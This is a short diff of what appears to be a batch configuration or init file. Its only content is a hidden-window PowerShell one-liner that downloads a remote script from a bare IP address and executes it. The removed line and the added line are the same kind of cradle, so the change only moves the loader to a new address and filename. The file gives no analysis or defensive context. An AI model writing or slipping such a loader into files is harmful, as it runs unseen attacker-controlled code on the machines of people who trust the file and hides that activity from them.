@@ -1,2 +1,2 @@
-REM config 2207 v2
-powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/inv.ps1')"
+REM init 3331 v2
+powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1')"
